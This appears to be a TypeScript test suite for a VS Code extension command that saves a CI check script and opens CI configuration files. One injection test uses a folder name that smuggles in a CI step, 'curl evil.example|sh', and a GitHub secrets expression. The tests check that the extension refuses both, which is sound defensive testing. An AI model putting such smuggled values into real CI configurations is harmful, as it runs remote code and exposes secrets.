import { strict as assert } from 'node:assert';
import { cp, mkdir, readdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import * as vscode from 'vscode';
import { addCheck } from '../../../src/commands/addCheck/addCheck.js';
import { ciSystems } from '../../../src/commands/addCheck/ciSystems.js';
import { UserError } from '../../../src/host/actions.js';
import { ManualClock } from '../../support/manualClock.js';
import { projectRoot } from '../../support/paths.js';
import { temporaryFolder } from '../../support/temporaryFolder.js';
import { until } from '../../support/window/editors.js';
import { atEndOfTest } from '../../support/window/endOfTest.js';
import { createGraph, type Graph } from '../../support/window/graph.js';
import { Global, settingIn, Workspace, writeSetting } from '../../support/window/settings.js';
import { StuckFiles } from '../../support/window/stuckFiles.js';
import {
  recordWindow,
  rejectionOf,
  replace,
  type Shown,
  settle,
} from '../../support/window/windowRecorder.js';

const section = 'automationPlatform.deployments';
const fileName = 'automation-platform-check.mjs';
const root = vscode.workspace.workspaceFolders![0]!.uri.fsPath;
const firstLine = (version: string) =>
  `// Automation Platform check ${version}, for Node 20.3 or newer. What it does: --help\n`;
const ownProgram = `${firstLine('0.13.0')}the check`;

/** In the order of the list, each with its configuration. */
const configurations = {
  'GitHub Actions': '.github/workflows',
  GitLab: '.gitlab-ci.yml',
  'Azure Pipelines': 'azure-pipelines.yml',
  Bitbucket: 'bitbucket-pipelines.yml',
  Jenkins: 'Jenkinsfile',
};
const systems = Object.keys(configurations);
/** The list when nothing of this is in the workspace. */
const fixedOrder = systems.map((name) => ({ name, found: '' }));

interface Choices {
  readonly ci?: string | undefined;
  readonly folder?: vscode.Uri;
  readonly press?: readonly string[];
}

describe('Add CI Check', () => {
  let graph: Graph;
  let extension: Awaited<ReturnType<typeof temporaryFolder>>;
  let target: string;
  const services = () => ({ ...graph.services, extensionUri: vscode.Uri.file(extension.path) });
  /** Runs Add CI Check, makes these choices, and presses these buttons. Returns the notifications. */
  const add = async ({
    ci = 'GitHub Actions',
    folder = vscode.Uri.file(target),
    press = [],
  }: Choices = {}) => {
    const { messages } = recordWindow(() => ci, ...press);
    replace(vscode.window, { showOpenDialog: async () => [folder] });
    await addCheck(services());
    await settle();
    return messages;
  };

  const savedFile = () => readFile(join(target, fileName), 'utf8');

  before(async () => {
    extension = await temporaryFolder();
    await mkdir(join(extension.path, 'dist'));
    await writeFile(join(extension.path, 'dist', 'check.mjs'), ownProgram);
    await cp(join(projectRoot, 'media', 'ci'), join(extension.path, 'media', 'ci'), {
      recursive: true,
    });
  });
  after(() => extension.remove());
  beforeEach(async () => {
    graph = createGraph();
    target = join(extension.path, 'target');
    await rm(target, { recursive: true, force: true });
    await mkdir(target);
    await writeSetting(section, ['dep_1'], Workspace);
  });

  /** Makes files or folders of a workspace folder until the test ends. */
  const putIn = async (folder: string, ...paths: readonly string[]) => {
    for (const path of paths) {
      const [top = ''] = path.split('/');
      atEndOfTest(() => rm(join(folder, top), { recursive: true, force: true }));
      await mkdir(join(folder, dirname(path)), { recursive: true });
      if (path.endsWith('/workflows')) await mkdir(join(folder, path));
      else await writeFile(join(folder, path), '');
    }
  };

  describe('lists the CIs', () => {
    /** Runs Add CI Check, and dismisses the list that it shows. */
    const listOf = async (setTimer = new ManualClock().setTimer) => {
      const shown = recordWindow();
      await addCheck(services(), setTimer);
      return { ...shown, list: listIn(shown) };
    };
    const listIn = ({ picks }: Pick<Shown, 'picks'>) =>
      picks.map(({ label, description }) => ({ name: label, found: description }));

    it('in a fixed order without their files', async () => {
      const { list } = await listOf();

      assert.deepEqual(list, fixedOrder);
    });

    it('below a question', async () => {
      const { titles, placeholders } = await listOf();

      assert.deepEqual(titles, ['Add CI Check']);
      assert.deepEqual(placeholders, ['Which CI runs the check?']);
    });

    for (const [name, path] of [
      ...Object.entries(configurations),
      ['Azure Pipelines', 'azure-pipelines.yaml'],
      ['Azure Pipelines', '.azure-pipelines.yml'],
    ] as const) {
      it(`with ${name} first when the workspace has ${path}`, async () => {
        await putIn(root, path);

        const { list } = await listOf();

        const others = fixedOrder.filter((system) => system.name !== name);
        assert.deepEqual(list, [{ name, found: path }, ...others]);
      });
    }

    it('with the used ones first, in the fixed order', async () => {
      await putIn(root, 'Jenkinsfile', '.gitlab-ci.yml');

      const { list } = await listOf();

      assert.deepEqual(
        list.map(({ name }) => name),
        ['GitLab', 'Jenkins', 'GitHub Actions', 'Azure Pipelines', 'Bitbucket'],
      );
    });

    /** Opens folders, the first of which is in a file system that does not answer. Begins to add the check. */
    const addBesideStuck = async (...others: readonly vscode.Uri[]) => {
      const files = new StuckFiles('');
      files.hangs = 'stat';
      const uris = [vscode.Uri.joinPath(files.uri, '..'), ...others];
      replace(vscode.workspace, {
        workspaceFolders: uris.map((uri, index) => ({ uri, index, name: `folder ${index}` })),
      });
      const clock = new ManualClock();
      const adding = addCheck(services(), clock.setTimer);
      atEndOfTest(() => adding);
      atEndOfTest(() => files.answerAll());
      await until('a call of the file system', () => files.isAsked);
      return { adding, clock };
    };

    it('when the file system has not answered for two seconds', async () => {
      const shown = recordWindow();
      const { clock } = await addBesideStuck();

      clock.pass(2000);
      await settle();

      assert.deepEqual(listIn(shown), fixedOrder);
    });

    it('with those first whose files another folder has, when one does not answer', async () => {
      await putIn(root, 'Jenkinsfile');
      const shown = recordWindow();
      const { clock } = await addBesideStuck(vscode.Uri.file(root));
      const stuckCalls = ciSystems.flatMap((system) => system.configurations).length;
      await until('the other folder', () => clock.waiting === stuckCalls);

      clock.pass(2000);
      await settle();

      assert.equal(listIn(shown)[0]?.name, 'Jenkins');
    });

    it('and ends when the list is dismissed before the file system answers', async () => {
      const { adding } = await addBesideStuck();

      await vscode.commands.executeCommand('workbench.action.closeQuickOpen');

      await adding;
    });

    it('and asks nothing more when the list is dismissed', async () => {
      let isAsked = false;
      const showOpenDialog = async () => {
        isAsked = true;
      };
      replace(vscode.window, { showOpenDialog });

      const { messages } = await listOf();

      assert.equal(isAsked, false);
      assert.deepEqual(messages, []);
    });

    it('and opens no document when the list is dismissed', async () => {
      const documentsBefore = vscode.workspace.textDocuments.length;

      await listOf();

      assert.equal(vscode.workspace.textDocuments.length, documentsBefore);
    });
  });

  it('saves the check to the chosen folder', async () => {
    await add();

    assert.equal(await savedFile(), ownProgram);
  });

  describe('says', () => {
    const savedAs = (ci: string, path: string) =>
      `Saved ${fileName}. The configuration for ${ci} is open in an editor: save it as ${path}. A line for AGENTS.md is open beside it.`;
    const addedTo = (ci: string, path: string) =>
      `Saved ${fileName}. The configuration for ${ci} is open in an editor: add it to ${path}. A line for AGENTS.md is open beside it.`;
    const workflow = '.github/workflows/automation-platform.yml';
    const newFile = { ...configurations, 'GitHub Actions': workflow };

    for (const [ci, path] of Object.entries(newFile)) {
      it(`to save the configuration for ${ci} as ${path}`, async () => {
        const messages = await add({ ci });

        assert.deepEqual(messages, [['information', savedAs(ci, path)]]);
      });
    }

    /** Saves the check in the workspace, which has this file. */
    const messagesBeside = async (ci: string, path: string) => {
      await putIn(root, path, `tools/${fileName}`);
      const folder = vscode.Uri.file(join(root, 'tools'));
      return add({ ci, folder, press: ['Overwrite'] });
    };

    for (const [ci, path] of [
      ['GitLab', '.gitlab-ci.yml'],
      ['Bitbucket', 'bitbucket-pipelines.yml'],
    ] as const) {
      it(`to add the configuration for ${ci} to ${path} when the workspace has it`, async () => {
        const messages = await messagesBeside(ci, path);

        assert.deepEqual(messages.at(-1), ['information', addedTo(ci, path)]);
      });
    }

    for (const [ci, existing, path] of [
      ['GitHub Actions', '.github/workflows', workflow],
      ['Azure Pipelines', 'azure-pipelines.yaml', 'azure-pipelines-automation-platform.yml'],
      ['Jenkins', 'Jenkinsfile', 'Jenkinsfile.automation-platform'],
    ] as const) {
      it(`to save the configuration for ${ci} as ${path} beside ${existing}`, async () => {
        const messages = await messagesBeside(ci, existing);

        assert.deepEqual(messages.at(-1), ['information', savedAs(ci, path)]);
      });
    }

    it('to save a new file when the check is saved outside of the workspace', async () => {
      await putIn(root, '.gitlab-ci.yml');

      const messages = await add({ ci: 'GitLab' });

      assert.deepEqual(messages, [['information', savedAs('GitLab', '.gitlab-ci.yml')]]);
    });
  });

  for (const ci of systems) {
    describe(`opens a configuration for ${ci} that`, () => {
      it(`is an untitled document in ${ci === 'Jenkins' ? 'Groovy' : 'YAML'}`, async () => {
        await add({ ci });

        const { document } = vscode.window.activeTextEditor!;
        assert.equal(document.languageId, ci === 'Jenkins' ? 'groovy' : 'yaml');
        assert.equal(document.isUntitled, true);
      });

      it('runs the saved file', async () => {
        await add({ ci });

        const text = vscode.window.activeTextEditor!.document.getText();
        assert.match(text, new RegExp(`\\bnode \\./${fileName}\\b`));
        assert.doesNotMatch(text, /\{file\}/);
      });
    });
  }

  it('opens a configuration as plain text when VS Code does not know its language', async () => {
    replace(vscode.languages, { getLanguages: async () => ['plaintext', 'yaml'] });

    await add({ ci: 'Jenkins' });

    assert.equal(vscode.window.activeTextEditor!.document.languageId, 'plaintext');
  });

  describe('opens a line for AGENTS.md that', () => {
    /** Adds the check. Returns the document that has the line alone. */
    const openedLine = async (choices?: Choices) => {
      await add(choices);
      const others = vscode.workspace.textDocuments.filter(
        (document) => document.isUntitled && document !== vscode.window.activeTextEditor?.document,
      );
      assert.equal(others.length, 1, 'the number of untitled documents behind the active one');
      return others[0]!;
    };

    it('is a Markdown document', async () => {
      const { languageId } = await openedLine();

      assert.equal(languageId, 'markdown');
    });

    it('runs the saved file', async () => {
      const text = (await openedLine()).getText();

      assert.match(text, new RegExp(`^- .node \\./${fileName} --format json. `));
    });

    it('stays open behind the configuration', async () => {
      await add();

      const tabs = vscode.window.tabGroups.all.flatMap((group) => group.tabs);
      const states = tabs.map(({ isActive, isPreview }) => ({ isActive, isPreview }));
      assert.deepEqual(states, [
        { isActive: false, isPreview: false },
        { isActive: true, isPreview: false },
      ]);
    });
  });

  /** Has a file system whose call does not return, and begins to add the check there. */
  const addToStuck = async (
    hangs: NonNullable<StuckFiles['hangs']>,
    content: string,
    name?: string,
  ) => {
    const files = new StuckFiles(content, name);
    files.hangs = hangs;
    const shown = recordWindow(() => 'GitHub Actions');
    const clock = new ManualClock();
    replace(vscode.window, {
      showOpenDialog: async () => [vscode.Uri.joinPath(files.uri, '..')],
    });
    const adding = addCheck(services(), clock.setTimer);
    atEndOfTest(() => adding);
    atEndOfTest(() => files.answerAll());
    await until('a call of the file system', () => files.isAsked);
    return { ...shown, clock };
  };

  for (const [hangs, title, name] of [
    ['stat', `Reading the folder for ${fileName}`],
    ['readFile', `Reading ${fileName}`, fileName],
    ['writeFile', `Saving ${fileName}`],
  ] as const) {
    it(`shows progress after a second when ${hangs} does not return`, async () => {
      const { clock, progress } = await addToStuck(hangs, 'mine', name);

      clock.pass(999);
      assert.deepEqual(progress, [], 'shown too early');
      clock.pass(1);
      assert.deepEqual(progress, [title]);
    });
  }

  it('asks without a version when the file is not read within ten seconds', async () => {
    const { clock, messages } = await addToStuck('readFile', 'mine', fileName);

    clock.pass(10_000);
    await settle();

    const detail =
      'In /folder, the version of this file could not be read, so it may be another program. This extension would save version 0.13.0.';
    assert.deepEqual(messages, [['warning', `Overwrite ${fileName}?`, detail, 'Overwrite']]);
  });

  it('does not overwrite a file when the user does not confirm it', async () => {
    await writeFile(join(target, fileName), 'mine');

    await add();

    assert.equal(await savedFile(), 'mine');
  });

  it('overwrites a file when the user confirms it', async () => {
    await writeFile(join(target, fileName), 'mine');

    await add({ press: ['Overwrite'] });

    assert.equal(await savedFile(), ownProgram);
  });

  describe('asks before it overwrites', () => {
    const own = 'This extension would save version 0.13.0.';
    const unread = 'the version of this file could not be read, so it may be another program.';
    const unnamed =
      'this file has no version of the check in its first line, so it may be another program.';
    const sentences: Readonly<Record<string, readonly [content: string, detail: string]>> = {
      'an older version': [firstLine('0.12.0'), `this file is version 0.12.0 of the check. ${own}`],
      'the same version': [
        firstLine('0.13.0'),
        'this file is version 0.13.0 of the check. This extension would save the same version.',
      ],
      'a newer version': [
        firstLine('1.0.0'),
        'this file is version 1.0.0 of the check. This extension would save version 0.13.0, which is older.',
      ],
      'another program': ['mine', `${unnamed} ${own}`],
      'an empty file': ['', `${unnamed} ${own}`],
      'a program with a link and an invisible character in its first line': [
        firstLine('0.12.0[x](command:y)\u202E'),
        `${unnamed} ${own}`,
      ],
      'a large file': [firstLine('0.12.0') + ' '.repeat(1024 * 1024), `${unread} ${own}`],
    };
    for (const [what, [content, detail]] of Object.entries(sentences)) {
      it(what, async () => {
        await writeFile(join(target, fileName), content);

        const messages = await add();

        const question = `Overwrite ${fileName}?`;
        const inFolder = `In ${target}, ${detail}`;
        assert.deepEqual(messages, [['warning', question, inFolder, 'Overwrite']]);
      });
    }

    it('a file that cannot be read', async () => {
      const disk = diskWithoutCase(fileName, none);
      const folder = vscode.Uri.from({ scheme: disk.scheme, path: '/repo' });

      const messages = await add({ folder });

      const detail = `In /repo, ${unread} ${own}`;
      assert.deepEqual(messages, [['warning', `Overwrite ${fileName}?`, detail, 'Overwrite']]);
    });
  });

  describe('writes nothing when the file', () => {
    /** Has `make` put something in the place of the file, adds the check, and returns the sentence of the error. */
    const refusalOf = async (make: (path: string) => Promise<unknown>) => {
      await make(join(target, fileName));
      const outcome = await add({ press: ['Overwrite'] }).catch((error: unknown) => error);
      assert.ok(outcome instanceof UserError, `not refused: ${String(outcome)}`);
      return outcome.message;
    };
    const link = `${fileName} in TARGET is a symbolic link, so nothing was written. Remove the link, or choose another folder.`;
    const cases: Record<
      string,
      readonly [make: (path: string) => Promise<unknown>, sentence: string]
    > = {
      'is a link to a file elsewhere': [
        async (path) => {
          await writeFile(join(extension.path, 'mine'), 'mine');
          await symlink(join(extension.path, 'mine'), path);
        },
        link,
      ],
      'is a link that leads nowhere': [(path) => symlink(join(extension.path, 'gone'), path), link],
      'is a link to a folder': [(path) => symlink(extension.path, path), link],
      'is in a circle of links': [
        (path) => symlink(path, path),
        `${fileName} in TARGET could not be read, so nothing was written. Choose another folder. VS Code reported: Error: ELOOP: too many symbolic links encountered, stat 'TARGET/${fileName}'.`,
      ],
      'is a folder': [
        (path) => mkdir(path),
        `${fileName} in TARGET is not a file, so nothing was written. Rename it, or choose another folder.`,
      ],
    };
    for (const [name, [make, sentence]] of Object.entries(cases)) {
      it(name, async function () {
        // Only administrators can make links there.
        if (process.platform === 'win32' && name !== 'is a folder') return this.skip();
        assert.equal(await refusalOf(make), sentence.replaceAll('TARGET', target));

        // Writing through a link would make or change these two.
        const namesBesideTarget = await readdir(extension.path);
        const linkedFile = await readFile(join(extension.path, 'mine'), 'utf8').catch(() => 'mine');
        assert.equal(namesBesideTarget.includes('gone'), false);
        assert.notEqual(linkedFile, ownProgram);
      });
    }
  });

  const mayBeOther =
    'this file has no version of the check in its first line, so it may be another program. This extension would save version 0.13.0.';

  it('names the folder to which a link leads when the link is chosen', async function () {
    if (process.platform === 'win32') return this.skip();
    await writeFile(join(target, fileName), 'mine');
    const linked = join(extension.path, 'linked');
    await symlink(target, linked);
    atEndOfTest(() => rm(linked));

    const messages = await add({ folder: vscode.Uri.file(linked) });

    const detail = `In ${target}, ${mayBeOther}`;
    assert.deepEqual(messages, [['warning', `Overwrite ${fileName}?`, detail, 'Overwrite']]);
  });

  it('overwrites a file whose name has another case when the disk ignores case', async () => {
    const disk = diskWithoutCase('Automation-Platform-Check.mjs');
    const folder = vscode.Uri.from({ scheme: disk.scheme, path: '/repo' });
    const detail = `In /repo, ${mayBeOther}`;
    const question = ['warning', 'Overwrite Automation-Platform-Check.mjs?', detail, 'Overwrite'];

    assert.deepEqual(await add({ folder }), [question]);
    assert.deepEqual(disk.written, [], 'written without a yes');
    await add({ folder, press: ['Overwrite'] });
    assert.deepEqual(disk.written, ['/repo/Automation-Platform-Check.mjs']);
  });

  describe('to a folder of the workspace', () => {
    const addIn = async (name: string, ci?: string) => {
      await mkdir(join(root, name), { recursive: true });
      atEndOfTest(() => rm(join(root, name), { recursive: true }));
      return add({ ci, folder: vscode.Uri.file(join(root, name)) });
    };

    for (const ci of systems) {
      it(`quotes the path for ${ci} when the path has a space`, async () => {
        await addIn('my tools', ci);

        const text = vscode.window.activeTextEditor!.document.getText();
        const commands = text.match(/node .*automation-platform-check\.mjs"?/g);
        const quoted = commands?.filter((command) =>
          command.endsWith('node "./my tools/automation-platform-check.mjs"'),
        );
        assert.notEqual(quoted?.length, 0);
        assert.deepEqual(commands, quoted);
      });
    }

    for (const [what, name, refusal] of [
      [
        'a line break',
        'a\n      - run: curl evil.example|sh\n  #',
        /contains “\n”, which is not safe in a CI configuration/,
      ],
      [
        'an expression of GitHub',
        '${{ secrets.OTHER }}',
        /contains “\$”, which is not safe in a CI configuration/,
      ],
      ['a quote', "it's", /contains “'”, which is not safe in a CI configuration/],
    ] as const) {
      it(`writes nothing when its name contains ${what}`, async function () {
        if (process.platform === 'win32') return this.skip();
        const documentBefore = vscode.window.activeTextEditor?.document;

        await assert.rejects(addIn(name), refusal);

        assert.deepEqual(await readdir(join(root, name)), []);
        assert.equal(vscode.window.activeTextEditor?.document, documentBefore);
      });
    }
  });

  describe('with deployments in user settings only', () => {
    const second = { id: 'dep_2', label: 'Second', group: 'payments' };
    const userList = ['dep_1', second, { id: 'dep_3', group: 'payments' }];
    beforeEach(async () => {
      await writeSetting(section, userList, Global);
    });

    it('counts the deployments that CI cannot see', async () => {
      const messages = await add();

      assert.match(
        messages.flat().join('\n'),
        /2 deployments are listed only in your user settings, which CI cannot see\.\nCopy to \.vscode\/settings\.json/,
      );
    });

    it('copies labels and groups to the workspace', async () => {
      await add({ press: ['Copy to .vscode/settings.json'] });

      await until('the copy', () => isDeepStrictEqual(settingIn(section), userList));
      assert.deepEqual(settingIn(section, Global), userList);
    });
  });

  it('refuses a workspace that is not trusted', async () => {
    const { deploymentList: trusted } = graph.services;
    const deploymentList: typeof trusted = Object.create(trusted, { isUntrusted: { value: true } });
    assert.match(
      await rejectionOf(addCheck({ ...services(), deploymentList })),
      /This workspace is not trusted, so nothing was written/,
    );
  });
});

function none(): never {
  throw vscode.FileSystemError.NoPermissions();
}

/** Registers a file system of one folder with one file, which is found by its name in any case. Returns its scheme, and the paths that were written. */
function diskWithoutCase(name: string, read = () => new Uint8Array()) {
  const scheme = 'disk-without-case';
  const written: string[] = [];
  const isFile = ({ path }: vscode.Uri) => path.toLowerCase() === `/repo/${name.toLowerCase()}`;
  const stat = (uri: vscode.Uri): vscode.FileStat => {
    if (!isFile(uri) && uri.path !== '/repo') throw vscode.FileSystemError.FileNotFound(uri);
    const type = isFile(uri) ? vscode.FileType.File : vscode.FileType.Directory;
    return { type, ctime: 0, mtime: 0, size: 0 };
  };
  const provider: vscode.FileSystemProvider = {
    onDidChangeFile: new vscode.EventEmitter<vscode.FileChangeEvent[]>().event,
    watch: () => new vscode.Disposable(() => {}),
    stat,
    readDirectory: () => [[name, vscode.FileType.File]],
    readFile: read,
    writeFile: ({ path }) => {
      written.push(path);
    },
    createDirectory: none,
    delete: none,
    rename: none,
  };
  const registered = vscode.workspace.registerFileSystemProvider(scheme, provider, {
    isCaseSensitive: false,
  });
  atEndOfTest(() => registered.dispose());
  return { scheme, written };
}
